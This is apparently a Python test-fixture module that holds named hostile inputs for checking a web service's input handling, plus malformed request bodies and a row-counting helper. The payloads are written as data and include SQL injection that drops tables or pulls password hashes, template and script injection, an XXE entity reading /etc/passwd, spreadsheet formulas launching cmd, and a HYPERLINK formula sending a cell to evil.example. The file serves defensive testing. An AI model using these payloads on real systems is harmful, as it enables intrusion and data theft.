"""The named hostile inputs, and helpers to throw them and to see what changed."""

from __future__ import annotations

from tests.conftest import all_tables

# Text a person could type into a field (or a client could put in JSON).
HOSTILE: dict[str, str] = {
    "oversized": "A" * 100_000,
    "nul": "Amira\x00Khan",
    "control_chars": "Amira\x07\x1b[31m\x08Khan",
    "bidi_override": "Amira\u202eKhan\u202c",
    "crlf_header": "Amira\r\nBcc: victim@example.org",
    "sql_or": "' OR 1=1 --",
    "sql_drop": "Robert'); DROP TABLE registration;--",
    "sql_union": "x' UNION SELECT password_hash FROM staff_user --",
    "template_jinja": "{{7*7}}",
    "template_jinja_str": "{{7*'7'}}{{ 7777*7 }}",
    "template_stmt": "{% for x in range(3) %}loop{% endfor %}",
    "template_dollar": "${7*7}#{7*7}<%= 7*7 %>",
    "html_script": "<script>alert(1)</script>",
    "html_attr": '"><img src=x onerror=alert(1)>',
    "formula_hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "formula_plus": "+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "apostrophe_name": "Siobhán O'Brien-Ní Dhuibhir",
    "long_unicode": "名" * 5_000,
    "zero_width": "Am\u200bira\ufeff",
}
# Evaluated, these would show up in a response; never, if text stays text.
EVALUATED = ("7777777", "54439", "looplooploop")
# Text a service may keep as it is (it is a person's words); the rest must be refused
# or cleaned.
MUST_REFUSE = {"oversized", "nul"}

# Whole bodies that are not what a JSON API takes.
BAD_BODIES: dict[str, tuple[bytes, str]] = {
    "invalid_utf8": (b'{"name": "\xff\xfe\xfa", "email": "a@example.org"}', "application/json"),
    "lone_surrogate": (b'{"name": "\\ud800", "email": "a@example.org"}', "application/json"),
    "truncated_json": (b'{"name": "Amira', "application/json"),
    "deep_nesting": (b"[" * 50_000 + b"]" * 50_000, "application/json"),
    "deep_object": (b'{"a":' * 20_000 + b"1" + b"}" * 20_000, "application/json"),
    "huge_body": (b'{"name": "' + b"A" * 2_000_000 + b'"}', "application/json"),
    "array_not_object": (b'[{"name": "Amira"}]', "application/json"),
    "number_not_object": (b"49", "application/json"),
    "null_body": (b"null", "application/json"),
    "empty_body": (b"", "application/json"),
    "duplicate_keys": (b'{"name": "A", "name": "B", "email": "a@example.org"}', "application/json"),
    "text_plain": (b"name=Amira", "text/plain"),
    "xml": (
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><r>&e;</r>",
        "application/xml",
    ),
    "form_encoded": (b"name=Amira&email=a%40example.org", "application/x-www-form-urlencoded"),
    "multipart": (
        b'--b\r\nContent-Disposition: form-data; name="name"\r\n\r\nAmira\r\n--b--\r\n',
        "multipart/form-data; boundary=b",
    ),
}


FORM_TYPE = "application/x-www-form-urlencoded"
# Bodies a browser would not send to a form: (body, content type, the status they get).
FORM_BODIES: dict[str, tuple[bytes, str, int]] = {
    "json": (b'{"name": "Amira"}', "application/json", 415),
    "xml": (BAD_BODIES["xml"][0], "application/xml", 415),
    "text_plain": (b"name=Amira", "text/plain", 415),
    "invalid_utf8": (b"name=Amira%FF%FEKhan&email=a%40example.org", FORM_TYPE, 400),
    "raw_bytes": (b"name=Amira\xff\xfe", FORM_TYPE, 400),
    "invalid_utf8_multipart": (
        b'--b\r\nContent-Disposition: form-data; name="name"\r\n\r\nAmira\xff\r\n--b--\r\n',
        "multipart/form-data; boundary=b",
        400,
    ),
    # Over every form's limit: MAX_BODY_BYTES, and 3 MB where a file is uploaded.
    "huge_body": (b"name=" + b"A" * 3_500_000, FORM_TYPE, 413),
}


async def row_counts() -> dict[str, int]:
    """Rows per table, but the key-value store (sessions, login throttling) and the
    sign-in log (a refused sign-in is logged for its account's owner, as the throttle
    counts it); one query."""
    unlike = ("store_entry", "sign_in")
    tables = [t for t in all_tables() if t._meta.tablename not in unlike]
    sql = " UNION ALL ".join(
        f"SELECT '{t._meta.tablename}' AS name, COUNT(*) AS n FROM \"{t._meta.tablename}\""  # noqa: S608 (our own table names)
        for t in tables
    )
    rows = await tables[0].raw(sql)
    return {row["name"]: int(row["n"]) for row in rows}
